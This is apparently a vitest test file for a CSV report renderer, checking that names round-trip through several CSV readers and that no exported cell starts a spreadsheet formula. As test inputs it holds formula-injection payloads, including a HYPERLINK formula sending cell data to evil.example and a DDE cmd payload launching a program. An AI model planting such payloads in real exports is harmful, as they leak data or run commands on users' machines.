import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import type { Cell, Table } from '../../src/model/table.js';
import { renderCsv } from '../../src/report/formats/csv.js';
import { skillTable } from '../../src/report/tables.js';
import { sampleReport } from './sample.js';

/** Names a hostile posting or overlay may bring; none starts a formula once it is written. */
const NAMES = [
  'plain',
  '',
  'a,b',
  'say "hi"',
  'two\nlines',
  'two\r\nlines',
  ' spaces ',
  "it's",
  'C++',
  'semi;colon',
  '漢字 é 🚀',
  '=1+1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  'NULL',
  '\\N',
  'true',
  '007',
];

const table: Table = {
  name: 'names',
  columns: [
    { key: 'name', title: 'Name', type: 'text' },
    { key: 'share', title: 'Share', type: 'share' },
  ],
  rows: NAMES.map((name, i): Cell[] => [name, i / 3]),
};
const csv = renderCsv(table);
/** What every reader has to give: the guard in front of a formula is part of the cell. */
const expected = NAMES.map((name, i) => [
  /^[=@]/.test(name) ? `'${name}` : name,
  String(Number((i / 3).toFixed(4))),
]);

const folder = mkdtempSync(join(tmpdir(), 'skillgauge-csv-'));
const file = join(folder, 'names.csv');
writeFileSync(file, csv);

function has(program: string, args: readonly string[]): boolean {
  return spawnSync(program, args).status === 0;
}

function run(program: string, args: readonly string[]): string {
  const { stdout, stderr, status } = spawnSync(program, args, { encoding: 'utf8' });
  expect([status, stderr]).toEqual([0, '']);
  return stdout;
}

const PYTHON = `
import csv, json, sys
with open(sys.argv[1], newline='', encoding='utf-8') as f:
    print(json.dumps(list(csv.reader(f))[1:]))
`;
const DUCKDB = `
import duckdb, json, sys
rows = duckdb.sql("select * from read_csv(?, header=true, all_varchar=true, nullstr='')", params=[sys.argv[1]]).fetchall()
print(json.dumps([['' if c is None else c for c in row] for row in rows]))
`;

describe('the CSV reads back cell by cell', () => {
  test('in csv-parse', () => {
    expect(parse(csv, { from: 2, record_delimiter: '\r\n' })).toEqual(expected);
  });

  test.skipIf(!has('python3', ['--version']))("in Python's csv (skipped without python3)", () => {
    expect(JSON.parse(run('python3', ['-c', PYTHON, file]))).toEqual(expected);
  });

  test.skipIf(!has('python3', ['-c', 'import duckdb']))(
    'in DuckDB (skipped without its Python package)',
    () => {
      expect(JSON.parse(run('python3', ['-c', DUCKDB, file]))).toEqual(expected);
    },
  );

  test.skipIf(!has('sqlite3', ['--version']))('in the shell of SQLite (skipped without it)', () => {
    const statements = ['.mode csv', `.import ${file} names`, '.mode json', 'SELECT name, share FROM names;'];
    const rows = JSON.parse(run('sqlite3', [':memory:', ...statements])) as { name: string; share: string }[];
    expect(rows.map(({ name, share }) => [name, share])).toEqual(expected);
  });
});

test.skipIf(!has('python3', ['--version']))(
  'no cell of a report with hostile names starts a formula, as Python reads it',
  () => {
    const hostile = sampleReport({ text: (plain) => `=cmd|'/C calc'!A0 ${plain}` }).comparison;
    const path = join(folder, 'hostile.csv');
    writeFileSync(path, renderCsv(skillTable(hostile)));
    const rows = JSON.parse(run('python3', ['-c', PYTHON, path])) as string[][];
    expect(rows.length).toBeGreaterThan(0);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+@-](?!\d)/);
  },
);
